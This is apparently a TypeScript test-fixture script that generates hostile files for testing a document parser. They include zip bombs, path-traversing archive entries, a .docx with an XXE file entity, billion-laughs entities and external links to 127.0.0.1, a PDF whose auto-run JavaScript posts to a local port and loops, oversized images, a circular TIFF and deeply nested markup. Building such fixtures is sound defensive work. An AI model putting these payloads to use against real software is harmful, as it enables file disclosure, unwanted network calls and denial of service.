/** Files made to do harm, built in memory; none is kept in the repository. `node tests/hostile/make.ts DIR` writes them. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { type Zippable, zipSync } from 'fflate';

const bytes = (text: string) => new TextEncoder().encode(text);

/** A zip of one text that expands to `megabytes` of nothing; when it lies, its directory says ten bytes. */
export function zipBomb(megabytes: number, lies = false): Uint8Array {
  const whole = megabytes * 1024 * 1024;
  const packed = deflateRawSync(Buffer.alloc(whole, 0x20), { level: 9 });
  const name = bytes('van-ban.txt');
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(lies ? 10 : whole, 22);
  head.writeUInt16LE(name.length, 26);
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(20, 4);
  entry.writeUInt16LE(20, 6);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(packed.length, 20);
  entry.writeUInt32LE(lies ? 10 : whole, 24);
  entry.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length + name.length, 12);
  end.writeUInt32LE(head.length + name.length + packed.length, 16);
  return new Uint8Array(Buffer.concat([head, name, packed, entry, name, end]));
}

/** Archives inside archives, `depth` deep. */
export function nestedZips(depth: number): Uint8Array {
  let inner = zipSync({ 'van-ban.txt': bytes('nội dung') });
  for (let i = 0; i < depth; i++) inner = zipSync({ 'tep.zip': inner });
  return inner;
}

/** An archive whose names want to be written elsewhere. */
export function traversingZip(text: string): Uint8Array {
  const names = [
    '../../../../tmp/can-cu-thoat.txt',
    '/tmp/can-cu-thoat.txt',
    'C:\\Windows\\can-cu-thoat.txt',
    '..\\..\\can-cu-thoat.txt',
    'a/../../b.txt',
  ];
  return zipSync(Object.fromEntries(names.map((name, i) => [name, bytes(`${text} ${i}`)])));
}

/** A .docx with a billion laughs, a file of this computer as an entity, and parts on `url`. */
export function reachingDocx(url: string, secretFile: string): Uint8Array {
  const doctype = `<!DOCTYPE x [<!ENTITY s SYSTEM "file://${secretFile}"><!ENTITY a "ha ha ha ha ha ha ha ha ha ha">${laughs()}]>`;
  const parts: Zippable = {
    '[Content_Types].xml': bytes(
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
    '_rels/.rels': bytes(
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ),
    'word/_rels/document.xml.rels': bytes(
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}/template.dotm" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${url}/anh.png" TargetMode="External"/></Relationships>`,
    ),
    'word/document.xml': bytes(
      `<?xml version="1.0"?>${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>KẾ HOẠCH &s; &j;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  };
  return zipSync(parts);
}

function laughs(): string {
  return [...'bcdefghij']
    .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghij'[i]};`.repeat(10)}">`)
    .join('');
}

/** A PDF of `count` small pages that all show `text`, with a script to run on opening. */
export function scriptedPdf(count: number, text: string): Uint8Array {
  const kids = Array.from({ length: count }, (_none, i) => `${i + 5} 0 R`).join(' ');
  const stream = `BT /F1 12 Tf 20 100 Td (${text}) Tj ET`;
  const objects = [
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\("http://127.0.0.1:4129/"\\); while\\(true\\){})>>>>',
    `<</Type/Pages/Count ${count}/Kids[${kids}]>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    `<</Length ${stream.length}>>stream\n${stream}\nendstream`,
    ...Array.from(
      { length: count },
      () =>
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 200]/Resources<</Font<</F1 3 0 R>>>>/Contents 4 0 R>>',
    ),
  ];
  return pdfOf(objects.map((object) => Buffer.from(object)));
}

/** A PDF whose only page is one picture of `side` × `side` black-and-white points. */
export function hugePicturePdf(side: number): Uint8Array {
  const data = deflateSync(Buffer.alloc(Math.ceil(side / 8) * side));
  const picture = `<</Type/XObject/Subtype/Image/Width ${side}/Height ${side}/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode/Length ${data.length}>>stream\n`;
  const show = 'q 595 0 0 842 0 0 cm /I Do Q';
  return pdfOf([
    Buffer.from('<</Type/Catalog/Pages 2 0 R>>'),
    Buffer.from('<</Type/Pages/Count 1/Kids[3 0 R]>>'),
    Buffer.from(
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 5 0 R>>>>/Contents 4 0 R>>',
    ),
    Buffer.from(`<</Length ${show.length}>>stream\n${show}\nendstream`),
    Buffer.concat([Buffer.from(picture), data, Buffer.from('\nendstream')]),
  ]);
}

function pdfOf(objects: Buffer[]): Uint8Array {
  const parts = [Buffer.from('%PDF-1.4\n')];
  let length = parts[0]!.length;
  const offsets = objects.map((object, i) => {
    const at = length;
    const part = Buffer.concat([Buffer.from(`${i + 1} 0 obj`), object, Buffer.from('endobj\n')]);
    parts.push(part);
    length += part.length;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${length}\n%%EOF`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}

/** A black-and-white png of `side` × `side` points: small as a file, four bytes a point when decoded. */
export function hugePng(side: number): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.writeUInt8(1, 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side));
  return new Uint8Array(
    Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      chunk('IHDR', head),
      chunk('IDAT', rows),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  );
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** A tiff whose directory of pages points back at itself. */
export function circlingTiff(): Uint8Array {
  const file = Buffer.alloc(64);
  file.write('II', 0, 'latin1');
  file.writeUInt16LE(42, 2);
  file.writeUInt32LE(8, 4);
  file.writeUInt16LE(2, 8);
  [
    [256, 8],
    [257, 8],
  ].forEach(([tag, value], i) => {
    file.writeUInt16LE(tag!, 10 + i * 12);
    file.writeUInt16LE(3, 12 + i * 12);
    file.writeUInt32LE(1, 14 + i * 12);
    file.writeUInt32LE(value!, 18 + i * 12);
  });
  file.writeUInt32LE(8, 34);
  return new Uint8Array(file);
}

export function deepHtml(depth: number): Uint8Array {
  return bytes(`<html><body>${'<div><b>'.repeat(depth)}KẾ HOẠCH${'</b></div>'.repeat(depth)}</body></html>`);
}

export function deepRtf(depth: number): Uint8Array {
  return bytes(`{\\rtf1 ${'{'.repeat(depth)}KE HOACH${'}'.repeat(depth)}}`);
}

/** One line without end: what backtracking patterns choke on. */
export function longLine(megabytes: number, unit: string): Uint8Array {
  return bytes(`KẾ HOẠCH\n${unit.repeat(Math.ceil((megabytes * 1024 * 1024) / Buffer.byteLength(unit)))}`);
}

if (process.argv[1] === import.meta.filename) {
  const dir = process.argv[2] ?? 'hostile';
  mkdirSync(dir, { recursive: true });
  const files: Record<string, Uint8Array> = {
    'bom.zip': zipBomb(1024),
    'bom-noi-doi.zip': zipBomb(1024, true),
    'long-nhau.zip': nestedZips(12),
    'thoat.zip': traversingZip('nội dung'),
    'voi-tay.docx': reachingDocx('http://127.0.0.1:4129', '/etc/hostname'),
    '50000-trang.pdf': scriptedPdf(50_000, 'Trang'),
    'anh-lon.pdf': hugePicturePdf(20_000),
    'anh-lon.png': hugePng(20_000),
    'vong.tiff': circlingTiff(),
    'sau.html': deepHtml(200_000),
    'sau.rtf': deepRtf(1_000_000),
    '200MB.txt': longLine(200, 'Căn cứ Quyết định số 12/QĐ-UBND ngày 08/4/2022 '),
  };
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
}
